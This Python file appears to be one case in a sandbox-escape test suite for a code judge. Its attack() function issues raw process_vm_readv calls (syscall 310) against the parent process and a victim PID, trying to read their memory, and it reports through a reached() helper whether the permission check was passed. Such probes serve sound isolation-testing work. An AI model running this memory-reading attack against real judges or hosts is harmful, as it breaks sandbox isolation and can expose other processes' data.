"""reads the judge's memory by process_vm_readv at an address known from the fork"""

import ctypes
import errno
import os
import struct


def attack():
    box = ctypes.create_string_buffer(16)
    local = struct.pack("QQ", ctypes.addressof(box), 16)
    for pid in (os.getppid(), TARGETS["victim"]):
        try:
            size = syscall(310, pid, local, 1, struct.pack("QQ", id(os), 16), 1, 0)
        except OSError as error:
            # The right is asked for before the address is looked at.
            if error.errno == errno.EFAULT:
                reached(f"only the address in {pid} was wrong")
            continue
        if size > 0:
            reached(f"{size} bytes of {pid}: {box.raw.hex()}")
